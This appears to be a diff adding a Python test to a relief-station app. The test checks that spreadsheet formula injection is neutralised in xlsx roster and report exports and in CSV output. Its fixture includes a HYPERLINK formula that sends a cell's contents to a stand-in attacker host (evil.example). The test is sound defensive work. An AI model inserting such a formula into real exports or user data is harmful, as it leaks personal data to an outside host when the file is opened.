@@ -108,3 +108,36 @@ def test_write_replaces_the_file_whole(built, tmp_path) -> None:
     export.write(build(ledger, make_range(*NOV)), "json", path)
     assert path.read_text().startswith("{")
     assert [p.name for p in tmp_path.iterdir()] == ["out.json"]
+
+
+def test_text_typed_at_a_counter_never_becomes_a_spreadsheet_formula(fresh_db, tmp_path) -> None:
+    """An employer, a campaign or a goods item starting with ``=`` stays text in xlsx (the
+    roster and the report) and cannot run when a CSV is opened in a spreadsheet program."""
+    from datetime import date
+
+    from station_app.domain import clock
+    from station_app.reports import roster
+    from station_app.services import members, relief
+    from tests.helpers import rid
+
+    attack = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
+    with clock.fixed(datetime(2026, 11, 3, 10).astimezone()):
+        members.sign_up_member(fresh_db, members.SignUp(
+            name="王五", id_number=rid(1), phone="13900000001", worker_type="courier",
+            employer=attack), by="t")
+        relief.define_campaign(fresh_db, code="C1", name="=1+1", kind="cooling", by="t")
+        relief.give_relief(fresh_db, campaign="C1", walk_in_type="courier", by="t",
+                           goods=[relief.Goods("@SUM(1)", 2), relief.Goods(attack, 1)])
+    book = openpyxl.load_workbook(io.BytesIO(roster.roster_bytes(roster.roster_rows(
+        fresh_db, None))))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == attack]
+    assert cells and all(c.data_type == "s" for c in cells)
+    found = build(fresh_db, make_range(date(2026, 11, 1), date(2026, 11, 30)), None)
+    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes(found, "xlsx")))
+    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=")]
+    assert texts and all(c.data_type == "s" for c in texts)
+    text = export.to_csv(found)
+    assert attack not in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + attack in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'@SUM(1)" in text
